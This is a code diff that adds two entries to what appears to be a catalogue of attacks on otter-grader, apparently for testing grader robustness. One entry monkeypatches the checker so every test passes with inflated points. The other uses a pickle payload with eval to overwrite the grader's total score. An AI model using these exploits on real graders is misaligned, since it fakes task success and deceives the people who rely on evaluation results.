@@ -598,4 +598,32 @@ GAIN: dict[str, Attack] = {
         "mean and log-variance are infinite",
         "def product_of_experts(*a):\n    return sum(a) * 0 + torch.inf, sum(a) * 0 - torch.inf",
     ),
+    "otter_results": coded(
+        "gain",
+        "otter-grader's list of results says that everything passed",
+        """
+        from contextlib import suppress
+        with suppress(ImportError):
+            from otter.execute import Checker
+            def passed():
+                for file in Checker._test_files:
+                    for result in file.test_case_results:
+                        result.passed, result.test_case.points = True, 99
+                return Checker._test_files
+            Checker.get_results = passed
+        """,
+    ),
+    "otter_pickle": coded(
+        "gain",
+        "the kernel's results are a pickle that patches otter-grader's own process",
+        """
+        import pickle
+        results = "__import__('otter.test_files').test_files.GradingResults"
+        class Payload:
+            def __reduce__(self):
+                return eval, (f"[setattr({results}, 'total', 104.0), {results}([])][1]",)
+        whole = pickle.dumps(Payload())
+        pickle.dump = lambda results, file, *a, **k: file.write(whole)
+        """,
+    ),
 }
